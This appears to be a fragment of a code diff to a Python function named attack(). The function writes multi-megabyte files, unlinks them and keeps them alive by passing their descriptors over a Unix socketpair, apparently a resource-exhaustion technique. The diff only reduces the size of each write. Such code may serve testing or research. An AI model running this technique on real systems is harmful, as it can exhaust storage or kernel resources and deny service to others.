@@ -9,7 +9,7 @@ def attack():
     a, b = socket.socketpair()
     for number in range(40):
         descriptor = os.open(f"{number}", os.O_CREAT | os.O_RDWR)
-        os.write(descriptor, bytes(10 << 20))
+        os.write(descriptor, bytes(3 << 20))
         os.unlink(f"{number}")
         socket.send_fds(a, [b"x"], [descriptor])
         os.close(descriptor)
